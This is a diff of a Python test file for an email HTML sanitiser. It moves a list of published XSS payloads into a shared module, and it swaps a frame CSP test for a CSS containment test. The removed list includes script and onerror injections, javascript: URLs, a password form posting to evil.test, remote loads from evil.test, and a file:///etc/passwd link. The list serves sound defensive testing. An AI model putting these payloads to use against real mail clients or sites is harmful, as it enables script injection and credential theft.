@@ -14,12 +14,13 @@ from common.mail.html import (
     FRAME_CSP_REMOTE,
     INLINE_IMAGE_TYPES,
     SanitisedHtml,
-    frame_document,
+    contained,
     image_data_url,
     sanitise,
     text_to_html,
 )
 from common.mail.limits import MAX_HTML_CHARS
+from tests.hostile_html import ATTACKS
 
 PNG = "data:image/png;base64,iVBORw0KGgo="
 LINK = 'target="_blank" rel="noopener noreferrer nofollow"'
@@ -41,62 +42,8 @@ class Page(HTMLParser):
         self.found.append((tag, dict(attrs)))
 
 
-# Classes of published attacks: OWASP's XSS filter evasion, PortSwigger, mutation XSS, CVEs of mail clients.
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\x00>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x:x onerror=alert(1)//",
-    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-    "<img/src=`x`onerror=alert(1)>",
-    '<img src="javascript:alert(1)">',
-    "<body onload=alert(1)><p onclick=alert(1)>",
-    "<svg onload=alert(1)><svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
-    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=//evil.test/x.swf>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
-    "<a href='java\tscr\nipt:alert(1)'>x</a>",
-    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='file:///etc/passwd'>x</a><a href='//evil.test'>x</a><a href='/local'>x</a>",
-    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test/>",
-    "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test/x.css';</style>",
-    "<div style='background:url(//evil.test/x)'>x</div>",
-    "<div style='width:expression(alert(1))'>x</div>",
-    "<div style='position:fixed;top:0;left:0;width:100%;z-index:9'>x</div>",
-    "<div style='margin-top:-5000px'>x</div>",
-    "<div style='background:u\\72l(//evil.test)'>x</div>",
-    "<div style='color:red;/*'>x</div><div style='*/position:fixed'>x</div>",
-    "<div style='-moz-binding:url(//evil.test)'>x</div>",
-    "<div style='transform:scale(99);opacity:0.01'>x</div>",
-    "<form action=//evil.test><input name=p type=password><button formaction=//evil.test>x</button></form>",
-    "<textarea autofocus onfocus=alert(1)></textarea><select onchange=alert(1)><option>x</select>",
-    "<video src=//evil.test/x poster=//evil.test/y onerror=alert(1)><source src=x></video><audio src=x>",
-    "<table background=//evil.test/x><td background=//evil.test/x>x</table>",
-    "<img srcset='//evil.test/x 1x' src=cid:nobody@x>",
-    "<img src=cid:bad@x>",
-    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
-    "<img src='data:image/png;base64,AAAA'>",
-    "<p id=document class=header name=body>x</p>",
-    "<template><script>alert(1)</script></template><plaintext><b onclick=x>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
-    "<a href='https://x.test' onmouseover=alert(1) ping=//evil.test download target=_self>x</a>",
-    "<dialog open><slot><portal src=//evil.test>",
-    "<p slot=x is=y nonce=z contenteditable popover data-x=1 aria-label=x>x</p>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-]
+PIECES = ["<b>", "</b>", '"', "'", "<table>", "</td>", "<!--", "-->", "&#60;", ">"]
+SMALL_ATTACKS = [html for name, html in ATTACKS.items() if not name.startswith("size")]
 SAFE_ATTRIBUTES = {
     *(name for names in ALLOWED.values() for name in names),
     "target",
@@ -122,17 +69,17 @@ def hurts(html: str) -> list[str]:
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_published_attacks_leave_nothing_that_hurts(attack: str) -> None:
     """No published way of running script, loading, covering or posting survives."""
-    assert hurts(shown(attack)) == []
+    assert hurts(shown(ATTACKS[attack])) == []
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_cleaning_again_changes_nothing_dangerous(attack: str) -> None:
     """What comes out is still harmless after a second parser has read it and written it anew."""
-    assert hurts(shown(shown(attack))) == []
+    assert hurts(shown(shown(ATTACKS[attack]))) == []
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", '"', "'", "<table>", "</td>", "<!--", "-->", "&#60;", ">"])))
+@given(st.lists(st.sampled_from([*SMALL_ATTACKS, *PIECES])))
 def test_no_mixture_of_attacks_hurts(pieces: list[str]) -> None:
     """Attacks put together in any order leave nothing that hurts either."""
     assert hurts(shown("".join(pieces))) == []
@@ -246,14 +193,11 @@ def test_svg_is_no_inline_image() -> None:
     assert sorted(INLINE_IMAGE_TYPES) == ["image/gif", "image/jpeg", "image/png", "image/webp"]
 
 
-@pytest.mark.parametrize(("remote", "policy"), [(False, FRAME_CSP), (True, FRAME_CSP_REMOTE)])
-def test_the_frame_forbids_everything_but_the_markup(remote: bool, policy: str) -> None:
-    """The frame's document carries the policy that fits what the reader asked for, and sends no referrer."""
-    document = frame_document(SanitisedHtml("<p>x</p>", 0), remote=remote)
-    metas = [attributes for tag, attributes in Page(document).found if tag == "meta"]
-    assert {"http-equiv": "Content-Security-Policy", "content": policy} in metas
-    assert {"name": "referrer", "content": "no-referrer"} in metas
-    assert "<body><p>x</p></body>" in document
+def test_the_body_comes_in_a_box() -> None:
+    """What is shown stands in an element that clips it and contains its floats; nothing stands in none."""
+    box = '<div style="contain:content;overflow:auto;overflow-wrap:anywhere">'
+    assert contained(SanitisedHtml("<p>x</p>", 0)) == f"{box}<p>x</p></div>"
+    assert contained(SanitisedHtml("", 0)) == ""
 
 
 def test_the_policy_allows_no_script_and_no_request() -> None:
